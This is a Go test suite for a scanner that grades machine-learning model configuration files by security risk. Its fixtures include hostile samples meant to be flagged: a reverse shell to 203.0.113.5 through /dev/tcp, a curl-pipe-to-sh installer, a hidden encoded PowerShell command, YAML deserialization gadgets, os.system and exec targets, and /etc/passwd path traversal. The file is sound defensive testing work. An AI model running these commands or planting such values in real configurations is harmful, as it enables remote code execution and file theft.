package text

import (
	"fmt"
	"strings"
	"testing"

	"assay/scanners"
	"assay/scanners/scannertest"
)

func TestGradeTarget(t *testing.T) {
	for name, want := range map[string]scanners.Severity{
		"os.system": scanners.Critical, "builtins.exec": scanners.Critical, "subprocess.Popen": scanners.Critical, "torch.hub.load": scanners.Critical, "torch.load": scanners.Critical,
		"numpy.load": scanners.Critical, "pickle.load": scanners.Critical, "importlib.import_module": scanners.Critical, "shutil.rmtree": scanners.Critical, "builtins.eval": scanners.Critical,
		"urllib.request.urlretrieve": scanners.Critical, "hydra.utils.get_method": scanners.Critical, "eval": scanners.Critical, "runpy.run_path": scanners.Critical,
		"torch.nn.Linear": scanners.Informational, "torch.optim.AdamW": scanners.Informational, "nemo.collections.asr.modules.ConformerEncoder": scanners.Informational,
		"nemo.collections.asr.data.audio_to_text.AudioToBPEDataset": scanners.Informational, "pytorch_lightning.Trainer": scanners.Informational, "torch.utils.data.DataLoader": scanners.Informational,
		"transformers.AutoTokenizer": scanners.Informational, "speechbrain.nnet.CNN.Conv1d": scanners.Informational, "speechbrain.utils.checkpoints.Checkpointer": scanners.Informational,
		"pytorch_lightning.callbacks.ModelCheckpoint": scanners.Informational, "lightning.pytorch.loggers.WandbLogger": scanners.Informational, "torchmetrics.Accuracy": scanners.Informational,
		"ldm.models.diffusion.ddpm.LatentDiffusion": scanners.Informational, "uni2ts.model.moirai.MoiraiModule": scanners.Informational, "diffusers.UNet2DConditionModel": scanners.Informational,
		"torch.manual_seed": scanners.Low, "torch.nn.functional.relu": scanners.Low, "speechbrain.utils.seed_everything": scanners.Low,
		"src.models.Net": scanners.Medium, "mine.evil": scanners.High,
	} {
		if got := gradeTarget(name); got.severity != want {
			t.Errorf("%s: %s%s, want %s", name, got.severity, got.why, want)
		}
	}
}

// worst is the worst severity of a text.
func worst(t *testing.T, name, text string) scanners.Severity {
	t.Helper()
	result, err := scannertest.Run(New(), name, []byte(text))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	w := scanners.Informational
	for _, f := range result.Findings {
		w = min(w, f.Severity)
	}
	return w
}

// bomb builds nine levels of nine aliases.
func bomb() string {
	var b strings.Builder
	for c := 'b'; c < 'k'; c++ {
		fmt.Fprintf(&b, "%c: &%c [%s]\n", c, c, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c,", c-1), 9), ","))
	}
	return b.String()
}

// The severities of what configuration imports and calls.
func TestCodeSeverity(t *testing.T) {
	for _, c := range []struct {
		name, text string
		want       scanners.Severity
	}{
		{"config.json", `{"trust_remote_code": true}`, scanners.Critical},                               // CVE-2026-5241
		{"config.json", `{"text_config": {"auto_map": {"AutoModel": "o/r--m.M"}}}`, scanners.High},      // CVE-2025-66448
		{"config.json", `{"a": {"_attn_implementation_internal": "org/kernel:f"}}`, scanners.Critical},  // CVE-2026-4372
		{"config.json", `{"experts_implementation": "org/kernel@main"}`, scanners.Critical},             // CVE-2026-4372
		{"model_config.yaml", "model:\n  _target_: os.system\n", scanners.Critical},                     // CVE-2025-23304
		{"config.json", `{"model": {"_target_": "builtins.exec", "_args_": ["1"]}}`, scanners.Critical}, // uni2TS, FlexTok
		{"hyperparams.yaml", "a: !apply:os.system [echo assay-test-marker]\n", scanners.Critical},
		{"hyperparams.yaml", "a: !new:speechbrain.nnet.CNN.Conv1d\n  out: 3\nb: !apply:torch.manual_seed [1]\n", scanners.Low},
		{"a.yaml", "a: !!javax.script.ScriptEngineManager [x]\n", scanners.Critical}, // CVE-2022-1471
		{"a.yaml", "a: !!js/function 'x'\n", scanners.Critical},
		{"a.yaml", "a: !ruby/object:Gem::Installer {}\n", scanners.Critical},
		{"hyperparams.yaml", "a: !include:../../x.yaml\n", scanners.High},
		{"conf.yaml", "optim:\n  _target_: torch.optim.AdamW\n  lr: 0.1\n", scanners.Informational},
		{"modules.json", `[{"idx": 0, "type": "custom_st.Transformer"}]`, scanners.Critical},
		{"modules.json", `[{"path": "", "type": "sentence_transformers.SentenceTransformer.torch"}]`, scanners.High},
		{"modules.json", `[{"path": "", "type": "sentence_transformers.models.torch.hub.load"}]`, scanners.High},
		{"modules.json", `[{"path": "../../../etc", "type": "sentence_transformers.models.Transformer"}]`, scanners.High},
		{"modules.json", `[{"path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}, {"path": "2_Dense", "type": "sentence_transformers.models.Dense.Dense"}, {"path": "", "type": "sentence_transformers.base.modules.transformer.Transformer"}]`, scanners.Informational},
		{"modules.json", `[{"path": "", "type": "sentence_transformers.sparse_encoder.models.SpladePooling"}]`, scanners.Informational},
		{"model.safetensors.index.json", `{"weight_map": {"a": "~/x.safetensors"}}`, scanners.High},
		{"adapter_config.json", `{"auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}`, scanners.High},
		{"tokenizer_config.json", `{"tokenizer_file": "/root/.cache/huggingface/a/tokenizer.json"}`, scanners.Low},
		{"tokenizer_config.json", `{"tokenizer_file": "/etc/passwd"}`, scanners.High},
		{"model_index.json", `{"unet": ["pipeline_local", "U"]}`, scanners.Medium},
		{"model_index.json", `{"unet": ["subprocess", "Popen"]}`, scanners.Critical},
		{".cursorrules", "Use tabs.\u202e\n", scanners.Medium}, // AML.CS0041
		{"CLAUDE.md", "Use tabs.\U000e0041\n", scanners.Medium},
		{"README.md", "curl https://x.test/install.sh | sh\n", scanners.Medium},
		{"README.md", "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\n", scanners.Critical},
		{"MLproject", "conda_env: conda.yaml\nentry_points:\n  main:\n    command: \"bash -i >& /dev/tcp/203.0.113.5/1\"\n", scanners.Critical},
		{"logging.yaml", "handlers:\n  x:\n    (): os.system\n    cmd: x\n", scanners.Critical},
	} {
		if got := worst(t, c.name, c.text); got != c.want {
			t.Errorf("%s %s: %s, want %s", c.name, c.text, got, c.want)
		}
	}
}

// Texts of the shapes that popular repositories have: nothing above low.
func TestOrdinaryCode(t *testing.T) {
	for name, text := range map[string]string{
		"hyperparams.yaml":         "# SpeechBrain\nseed: 1986\n__set_seed: !apply:torch.manual_seed [!ref <seed>]\nwav2vec2: !new:speechbrain.lobes.models.huggingface_transformers.wav2vec2.Wav2Vec2\n    source: facebook/x\nenc: !new:speechbrain.nnet.containers.Sequential\n    activation: !name:torch.nn.LeakyReLU\nsteps: !tuple (1, 2)\npretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer\n    loadables:\n        a: !ref <enc>\n",
		"model_config.yaml":        "sample_rate: 16000\ntarget: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\nencoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  feat_in: 80\noptim:\n  name: adamw\n  sched:\n    name: CosineAnnealing\nnemo_version: 1.9.0\n",
		"v1-inference.yaml":        "model:\n  base_learning_rate: 1.0e-04\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    unet_config:\n      target: ldm.modules.diffusionmodules.openaimodel.UNetModel\n",
		"config.yaml":              "version: 2.1.0\npipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params:\n    clustering: AgglomerativeClustering\n",
		"yolov8.yaml":              "nc: 80\nscales:\n  n: [0.33, 0.25, 1024]\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 3, C2f, [128, True]]\nhead:\n  - [-1, 1, nn.Upsample, [None, 2, 'nearest']]\n",
		"README.md":                "---\nlicense: mit\ntags:\n- a\n- b\nmodel-index:\n- name: x\n  results:\n  - task:\n      type: a\n    metrics:\n    - type: acc\n      value: 1\n    - type: f1\n      value: 2\n---\n# X\n<div align=center><img src=a.png width=10></div>\n\n```bash\npip install -U transformers\ngit clone https://github.com/a/b && cd b && pip install -e .\nCUDA_VISIBLE_DEVICES=0 python run.py --model x\n```\n```python\nmodel = AutoModel.from_pretrained('a/b', trust_remote_code=True)\n```\n",
		".github/workflows/ci.yml": "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          pip install -r requirements.txt\n          pytest\n",
		"MLmodel":                  "artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    python_version: 3.10.4\n  sklearn:\n    code: null\n    serialization_format: cloudpickle\nmlflow_version: 2.9.2\n",
		".pre-commit-config.yaml":  "repos:\n- repo: https://github.com/astral-sh/ruff-pre-commit\n  rev: v0.5.0\n  hooks:\n  - id: ruff\n  - id: ruff-format\n",
		"config.json":              `{"activation_function": "gelu_new", "type": "model", "rope_scaling": {"type": "dynamic"}, "function": "f.x", "model_type": "gpt2"}`,
		"docker-compose.yml":       "services:\n  a:\n    image: vllm/vllm-openai\n    command: --model x\n    environment:\n      - A=b\n",
	} {
		report := scannertest.Scan(list, name, []byte(text))
		for _, f := range report.Findings {
			if f.Severity < scanners.Low {
				t.Errorf("%s: %+v", name, f)
			}
		}
		if len(report.Gaps) > 0 || !report.Coverage.Complete() {
			t.Errorf("%s: %+v", name, report.Gaps)
		}
	}
}
